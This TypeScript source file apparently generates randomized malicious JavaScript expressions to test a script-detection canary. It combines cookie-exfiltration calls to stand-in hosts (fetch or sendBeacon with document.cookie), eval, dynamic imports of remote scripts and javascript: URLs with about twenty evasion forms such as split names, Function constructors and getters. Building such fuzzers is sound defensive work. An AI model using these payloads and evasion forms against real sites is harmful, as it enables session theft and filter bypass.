import type { Random } from '../../lib/random.ts';

/** An expression of JavaScript that a canary sees, and how it was made. */
export interface Script {
  readonly kind: string;
  readonly text: string;
}

/** What an attacker's script does × the form in which it calls. */
export function maliciousScript(random: Random): Script {
  const goal = random.pick(goals);
  const [callee, argument] = goal.make(random);
  const form = random.pick(forms);
  return { kind: `${goal.name}/${form.name}`, text: form.make(callee, argument, random) };
}

/** A name that no page uses. */
export function scriptName(random: Random): string {
  const letters = random.times(1 + random.below(5), () =>
    String.fromCharCode(97 + random.below(26)),
  );
  return `${random.pick(['', '_', '$'])}${letters.join('')}${random.below(100)}`;
}

/** A host of the attacker. */
export function foreignHost(random: Random): string {
  return `${scriptName(random).replace(/[_$]/, '')}.${random.pick(['test', 'example', 'invalid'])}`;
}

type Call = readonly [callee: string, argument: string];

const goals: readonly { readonly name: string; make(random: Random): Call }[] = [
  {
    name: 'dialog',
    make: (random) => [
      random.pick(['alert', 'confirm', 'prompt', 'print']),
      random.pick([
        String(random.below(1000)),
        'document.domain',
        'origin',
        `'${scriptName(random)}'`,
        '',
      ]),
    ],
  },
  {
    name: 'cookie',
    make: (random) => [
      random.pick(['fetch', 'navigator.sendBeacon', 'open']),
      `'//${foreignHost(random)}/?${scriptName(random)}='+document.cookie`,
    ],
  },
  {
    name: 'request',
    make: (random) => [
      random.pick(['fetch', 'open']),
      `'//${foreignHost(random)}/${scriptName(random)}'`,
    ],
  },
  {
    name: 'storage',
    make: (random) => ['alert', `${random.pick(['localStorage', 'sessionStorage'])}.length`],
  },
  {
    name: 'eval',
    make: (random) => [
      random.pick(['eval', 'setTimeout', 'setInterval']),
      `'alert(${random.below(99)})'`,
    ],
  },
  {
    name: 'page',
    make: (random) => ['document.write', `'<h1>${scriptName(random)}</h1>'`],
  },
];

interface Form {
  readonly name: string;
  make(callee: string, argument: string, random: Random): string;
}

/** The object that holds a function, and the name of it. */
function parts(callee: string): readonly [owner: string, name: string] {
  const dot = callee.lastIndexOf('.');
  return dot === -1 ? ['self', callee] : [callee.slice(0, dot), callee.slice(dot + 1)];
}

function called(callee: string, argument: string): string {
  return `${callee}(${argument})`;
}

/** Functions that need their object are kept with it. */
function bound(callee: string): string {
  const [owner] = parts(callee);
  return owner === 'self' ? callee : `${callee}.bind(${owner})`;
}

function own(random: Random): string {
  return random.pick(['self', 'window', 'globalThis', 'top', 'parent', 'frames', 'this']);
}

const forms: readonly Form[] = [
  { name: 'direct', make: called },
  {
    name: 'indirect',
    make: (callee, argument, random) => `(${random.below(9)},${bound(callee)})(${argument})`,
  },
  {
    name: 'member',
    make: (callee, argument, random) => {
      const [owner, name] = parts(callee);
      return `${owner === 'self' ? own(random) : owner}['${name}'](${argument})`;
    },
  },
  {
    name: 'optional',
    make: (callee, argument) => {
      const [owner, name] = parts(callee);
      return `${owner}?.${name}?.(${argument})`;
    },
  },
  {
    name: 'concatenated',
    make: (callee, argument, random) => {
      const [owner, name] = parts(callee);
      const cut = 1 + random.below(name.length - 1);
      return `${owner}['${name.slice(0, cut)}'+'${name.slice(cut)}'](${argument})`;
    },
  },
  {
    name: 'call',
    make: (callee, argument, random) =>
      random.pick([
        `${callee}.call(${parts(callee)[0]},${argument})`,
        `${callee}.apply(${parts(callee)[0]},[${argument}])`,
        `Reflect.apply(${callee},${parts(callee)[0]},[${argument}])`,
        `${callee}.bind(${parts(callee)[0]})(${argument})`,
      ]),
  },
  {
    name: 'destructured',
    make: (callee, argument, random) => {
      const [owner, name] = parts(callee);
      const alias = scriptName(random);
      return `(({${name}:${alias}})=>${alias}.call(${owner},${argument}))(${owner})`;
    },
  },
  {
    name: 'alias',
    make: (callee, argument, random) => {
      const alias = scriptName(random);
      return `(${alias}=>${alias}(${argument}))(${bound(callee)})`;
    },
  },
  {
    name: 'list',
    make: (callee, argument, random) =>
      `[${argument || random.below(99)}].${random.pick(['map', 'find', 'some', 'forEach', 'filter', 'every', 'flatMap'])}(${bound(callee)})`,
  },
  {
    name: 'tagged',
    make: (callee, _, random) => `${bound(callee)}\`${scriptName(random)}\``,
  },
  {
    name: 'function text',
    make: (callee, argument, random) =>
      `${random.pick(['Function', '[].at.constructor', '(()=>0).constructor', '(function*(){}).constructor'])}(${JSON.stringify(called(callee, argument))})()${random.pick(['', '?.next?.()'])}`,
  },
  {
    name: 'getter',
    make: (callee, argument, random) => {
      const name = scriptName(random);
      return `({get ${name}(){return ${called(callee, argument)}}}).${name}`;
    },
  },
  {
    name: 'generator',
    make: (callee, argument) => `[...function*(){yield ${called(callee, argument)}}()]`,
  },
  {
    name: 'conversion',
    make: (callee, argument, random) =>
      `${random.pick(['+', '-', '~', "''+"])}{${random.pick(['valueOf', 'toString'])}(){${called(callee, argument)};return ''}}`,
  },
  {
    name: 'promise',
    make: (callee, argument) => `Promise.resolve(${argument}).then(${bound(callee)})`,
  },
  {
    name: 'thrown',
    make: (callee, argument, random) => {
      const name = scriptName(random);
      return `(()=>{try{throw ${bound(callee)}}catch(${name}){${name}(${argument})}})()`;
    },
  },
  {
    name: 'class',
    make: (callee, argument) => `(class{static{${called(callee, argument)}}})`,
  },
  {
    name: 'default',
    make: (callee, argument, random) =>
      `((${scriptName(random)}=${called(callee, argument)})=>1)()`,
  },
  {
    name: 'imported',
    make: (_, __, random) =>
      random.pick([
        `import('//${foreignHost(random)}/${scriptName(random)}.js')`,
        `import('data:text/javascript,alert(${random.below(99)})')`,
      ]),
  },
  {
    name: 'location',
    make: (callee, argument, random) =>
      `${random.pick(['location', 'self.location', 'location.href', "document['location']"])}=${JSON.stringify(`javascript:${called(callee, argument)}`)}`,
  },
];
